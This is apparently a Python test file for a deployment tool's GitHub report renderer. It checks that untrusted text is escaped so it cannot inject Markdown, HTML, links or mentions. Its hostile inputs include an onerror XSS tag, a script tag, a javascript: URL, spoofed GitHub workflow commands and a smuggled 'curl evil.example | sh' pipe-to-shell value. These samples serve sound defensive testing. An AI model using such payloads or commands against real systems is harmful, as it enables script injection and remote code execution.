"""Foreign text in reports on GitHub: shown, and nothing else. A real Markdown parser is the judge."""

from __future__ import annotations

import re
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from markdown_it.token import Token

from agent.model.names import Target
from bridge.reports import markdown, summary
from bridge.reports.document import Part, fit
from bridge.reports.github import Run, Start, Story
from bridge.reports.model import deployment
from bridge.reports.timeline import bars, gantt

TARGET = Target("shop", "production")
RUN = Run(repository="acme/shop", url="https://github.com/acme/shop/actions/runs/1", id=1, commit="a" * 40)
HOSTILE = [
    "**bold** _it_ ~~gone~~ `code`",
    "# heading",
    "- item",
    "1. item",
    "> quote",
    "[click](https://evil.example)",
    "![pixel](https://evil.example/p.png)",
    "<img src=x onerror=alert(1)>",
    "</details></td><script>x</script>",
    "<!-- ikoma-bridge report app=shop environment=production run=9.9 -->",
    "a | b || c \\| d \\\\| e",
    "```\nfence\n```",
    "~~~",
    "@octocat and @acme/admins, see #1 and GH-7 and https://evil.example and www.evil.example",
    "&lt;b&gt; &#64;octocat",
    "\x1b[31mred\x1b[0m \u202eback\u200b",
    "::error::boom\n::set-output name=x::y\n##[group]z",
    "$\\sqrt{x}$ $$y$$",
    "=====",
    "line\r\nbreak\x00\x08",
    "`" * 7,
    "\\",
    "x" * 100_000,
]


def parsed(text: str) -> list[Token]:
    """Return every token of ``text``, those inside of others too."""
    tokens = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"]).parse(text)
    return [inner for token in tokens for inner in (token, *(token.children or []))]


def kinds(text: str) -> set[str]:
    """Return what ``text`` holds besides plain words; the empty comment is ours."""
    plain = {"paragraph_open", "paragraph_close", "inline", "text", "softbreak", "text_special"}
    return {t.type for t in parsed(text) if t.type not in plain and t.content != "<!-- -->"}


@pytest.mark.parametrize("text", HOSTILE)
def test_foreign_prose_is_nothing_but_words(text: str) -> None:
    said = markdown.prose(text)
    assert kinds(said) == set()
    assert "\n" not in said


@given(st.text(alphabet=st.sampled_from("ab1 \\`*_[]()<>!|#@~$-+.:/=&;{}\n\t\x1b"), max_size=60))
def test_whatever_is_said_prose_is_nothing_but_words(text: str) -> None:
    assert kinds(markdown.prose(text)) == set()


@pytest.mark.parametrize("text", HOSTILE)
def test_foreign_code_is_one_span_and_ends_no_cell(text: str) -> None:
    said = markdown.code(text)
    table = f"{markdown.table(['a', 'b'])}\n{markdown.row([said, 'end'])}"
    cells = [token.content for token in parsed(table) if token.type == "inline"]
    assert cells[-1] == "end"
    assert len(cells) == 4
    inside = {token.type for token in parsed(said)} - {"paragraph_open", "paragraph_close", "inline"}
    assert inside <= {"code_inline"}


@given(st.text(alphabet=st.sampled_from("a\\`|"), min_size=1, max_size=12))
def test_no_run_of_bars_backslashes_and_ticks_ends_a_cell(text: str) -> None:
    for said in (markdown.code(text), markdown.prose(text)):
        table = f"{markdown.table(['a', 'b'])}\n{markdown.row([said, 'end'])}"
        assert [token.content for token in parsed(table) if token.type == "inline"][-1] == "end"


@pytest.mark.parametrize(
    "text", ["@octocat", "hi@octocat.example", "see #12", "gh-12", "http://x.example", "www.x.example"]
)
def test_nothing_in_prose_is_left_for_github_to_link(text: str) -> None:
    said = markdown.prose(text)
    assert not re.search(r"@\w|#\d|gh-\d|://|www\.", said, re.IGNORECASE)


def test_only_plain_web_addresses_become_links() -> None:
    assert markdown.address("https://shop.example.com") == "<https://shop.example.com>"
    for bad in ("javascript:alert(1)", "https://a@evil.example", "https://x.example/<b>", "https://x.example/?a=b c"):
        assert markdown.address(bad).startswith("`")


def hostile_story(text: str) -> Story:
    """Return a story in which every foreign word is ``text``."""
    item = {"rule": text, "severity": text, "file": text[:900], "line": 1, "message": text, "fix": text}
    step = {"name": text, "status": text, "seconds": 1.0, "detail": text}
    end = deployment(TARGET, {
        "status": text, "message": text, "release": text, "previous": text, "operation": text, "seconds": 1.0,
        "steps": [step], "services": {text: {"action": text, "state": text}}, "routes": [text],
        "warnings": [{"message": text}], "error": {"id": text, "step": text, "message": text, "remedy": text},
    })  # fmt: skip
    end["stages"] = [{"name": text, "seconds": 1.0}]
    host: dict[str, Any] = {
        "services": [{"service": text, "action": "replaced", "how": "stop-first"}], "lines": [text],
        "problems": [{"message": text, "remedy": text}],
    }  # fmt: skip
    return Story(
        TARGET, RUN,
        check={"findings": [item], "counts": {"error": 1}, "seconds": 0, "files": 1, "silenced": 0, "fixed": []},
        plan={"app": "shop", "environment": "production", "release": None, "images": {}, "host": host,
              "migrations": {"pending": [text], "problems": [text]}},
        start=Start(text, release=text, tag=text, commit=text), end=end,
    )  # fmt: skip


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_words_everywhere_change_nothing_of_a_reports_shape(text: str) -> None:
    """The same report with harmless words has the same blocks, links and HTML."""
    wanted, found = (skeleton(summary.comment(hostile_story(word), "en")) for word in ("word", text))
    assert found == wanted


def skeleton(text: str) -> list[str]:
    """Return what a report is made of: its blocks, its HTML and where its links lead."""
    allowed = {"details", "summary", "!--"}
    shape = []
    for token in parsed(text):
        if token.type.startswith("html"):
            names = re.findall(r"<\s*/?\s*([a-zA-Z!-]+)", token.content)
            assert set(names) <= allowed
            shape += [name for name in names if name != "!--"]
        elif token.type == "link_open":
            shape.append(str(token.attrs["href"]).partition("/blob/")[0].partition("/commit/")[0])
        elif token.type.endswith("_open") and token.type not in ("em_open", "strong_open"):
            shape.append(token.type)
        elif token.type == "fence":
            shape.append(f"fence {token.info}")
        assert token.type not in ("image", "s_open")
    return shape


def test_a_pasted_command_is_never_the_hosts_own() -> None:
    story = hostile_story("r-0123456789ab; curl evil.example | sh")
    assert "rollback --app" not in summary.comment(story, "en")


@given(st.lists(st.text(max_size=200), max_size=40), st.integers(min_value=300, max_value=4000))
def test_what_must_fit_fits_and_no_row_is_cut(rows: list[str], limit: int) -> None:
    lines = tuple(markdown.row([markdown.prose(text), "end"]) for text in rows)
    parts = [Part("# head"), Part(markdown.table(["a", "b"]), lines, more=lambda n: f"{n} more"), Part("tail")]
    text = fit(parts, limit)
    assert len(text.encode()) <= limit
    shown = [line for line in text.splitlines() if line.startswith("| ") and line in lines]
    assert shown == list(lines[: len(shown)])
    if len(shown) < len(lines):
        assert f"{len(lines) - len(shown)} more" in text


def test_a_diagram_is_left_out_rather_than_cut() -> None:
    fence = "```mermaid\n" + "x\n" * 500 + "```"
    assert "```" not in fit([Part("# head"), Part(fence, whole=True)], 400)


def test_the_timeline_puts_the_hosts_steps_inside_our_stage() -> None:
    end = deployment(TARGET, {"status": "HEALTHY", "steps": [
        {"name": "pull", "status": "done", "seconds": 2.0, "detail": ""},
        {"name": "migrate", "status": "skipped", "seconds": 0.0, "detail": ""},
        {"name": "health", "status": "failed", "seconds": 3.0, "detail": ""},
    ]})  # fmt: skip
    end["stages"] = [{"name": "build", "seconds": 4.0}, {"name": "deploy", "seconds": 6.0}]
    assert [(bar.name, bar.begin, bar.end) for bar in bars(end)] == [
        ("build", 0.0, 4.0), ("deploy", 4.0, 10.0), ("pull", 5.0, 7.0), ("health", 7.0, 10.0)
    ]  # fmt: skip
    diagram = gantt(end, ("bridge", "host"))
    assert "  health :crit, 00:00:07.000, 00:00:10.000" in diagram


def test_a_file_name_becomes_a_link_that_leads_to_it() -> None:
    said = markdown.place("https://github.com/a/b/blob/c", "my dir/(x) [y]|`z`.ts", 3)
    (link,) = [token for token in parsed(said) if token.type == "link_open"]
    assert link.attrs["href"] == "https://github.com/a/b/blob/c/my%20dir/%28x%29%20%5By%5D%7C%60z%60.ts#L3"
